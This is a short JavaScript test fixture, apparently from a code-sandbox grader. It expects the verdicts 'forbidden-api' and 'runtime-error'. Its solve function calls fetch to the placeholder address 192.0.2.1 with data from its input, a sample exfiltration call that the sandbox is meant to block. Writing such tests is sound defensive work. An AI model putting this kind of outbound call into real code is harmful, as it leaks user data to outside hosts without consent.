/*
 * name: d19-fetch-exfiltrate
 * verdict: forbidden-api
 * also: runtime-error
 * must not: open a socket
 */
export async function solve(x) {
  await fetch(`http://192.0.2.1/?${x.length}`);
  return x;
}
